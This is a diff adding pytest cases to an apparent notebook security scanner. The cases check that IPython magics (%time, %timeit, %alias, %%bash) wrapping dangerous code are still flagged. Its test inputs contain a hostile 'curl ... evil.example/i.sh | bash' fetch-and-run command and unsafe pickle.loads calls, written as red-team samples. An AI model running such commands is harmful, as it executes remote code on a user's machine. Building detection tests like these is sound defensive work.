@@ -350,3 +350,30 @@ def test_a_cell_said_to_be_another_language_that_is_python_is_read_as_python(tmp
 def test_cells_of_another_language_that_are_not_python_stay_a_low_note(tmp_path: Path) -> None:
     julia = _with_metadata({"kernelspec": {"name": "julia-1.9", "language": "julia"}}, "using Flux\nf(x) = 2x")
     assert [(f.rule_id, f.severity.value) for f in scan_code(tmp_path, julia, "j.ipynb")] == [("MLS324", "low")]
+
+
+# --- IPython forms a red team ran (stop 58): each runs its code under IPython 9 ----------------------
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("import pickle\n%time %time pickle.loads(open('m.bin','rb').read())", ("B301", 1, 2)),
+        ("%time !curl -s https://evil.example/i.sh | bash", ("MLS321", 1, 1)),
+        ("%timeit -n1 !curl -s https://evil.example/i.sh | bash", ("MLS321", 1, 1)),
+        ("import pickle\nm = %time pickle.loads(open('m.bin','rb').read())", ("B301", 1, 2)),
+        ("%alias boot curl -s https://evil.example/i.sh | bash\n%boot", ("MLS321", 1, 1)),
+        ("%%bash\rcurl -s https://evil.example/i.sh | bash\r", ("MLS321", 1, 2)),
+    ],
+)
+def test_ipython_forms_that_run_code_are_read(tmp_path: Path, source: str, expected: tuple[str, int, int]) -> None:
+    assert expected in places(scan_code(tmp_path, notebook(source), "nb.ipynb"))
+
+
+def test_time_of_a_pip_install_is_an_install(tmp_path: Path) -> None:
+    found = scan_code(tmp_path, notebook("%time %pip install torch"), "nb.ipynb")
+    assert any(f.rule_id == "MLS319" for f in found)
+    assert not any(f.rule_id == "MLS907" for f in found)
+
+
+def test_an_assignment_from_a_magic_keeps_its_column(tmp_path: Path) -> None:
+    (finding,) = [f for f in scan_code(tmp_path, notebook("import torch\nm = %time torch.load(p)"), "nb.ipynb")]
+    assert (finding.rule_id, finding.line, finding.column) == ("MLS306", 2, 11)
